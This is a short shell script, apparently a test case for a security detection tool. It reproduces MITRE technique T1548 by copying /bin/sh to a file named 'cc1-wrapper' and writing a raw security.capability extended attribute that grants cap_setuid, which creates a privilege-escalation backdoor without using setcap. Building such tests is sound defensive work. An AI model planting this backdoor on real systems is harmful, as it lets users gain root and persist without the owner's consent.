#!/bin/sh
# technique: T1548 Abuse Elevation Control Mechanism (file capabilities)
# reproduces: the same capability backdoor written without setcap: a raw "security.capability" extended attribute (VFS_CAP_REVISION_2, cap_setuid permitted and effective) set with os.setxattr()
# expect: file-capability-set ^python3(\.[0-9]+)?$
# exec-borne: no
set -u

command -v python3 >/dev/null 2>&1 || { echo "python3 not installed" >&2; exit 77; }

target="${BW_ATTACK_TMP:?}/cc1-wrapper"
trap 'rm -f "$target"' EXIT

python3 - "$target" <<'PY'
import os
import shutil
import struct
import sys

VFS_CAP_REVISION_2 = 0x02000000
VFS_CAP_FLAGS_EFFECTIVE = 0x000001
CAP_SETUID = 7

dst = sys.argv[1]
shutil.copyfile("/bin/sh", dst)
os.chmod(dst, 0o755)
# struct vfs_cap_data: magic_etc, then {permitted, inheritable} x 2 (low, high 32 bits)
value = struct.pack("<IIIII", VFS_CAP_REVISION_2 | VFS_CAP_FLAGS_EFFECTIVE,
                    1 << CAP_SETUID, 0, 0, 0)
os.setxattr(dst, "security.capability", value)
print("capability set: %s" % os.getxattr(dst, "security.capability").hex())
PY
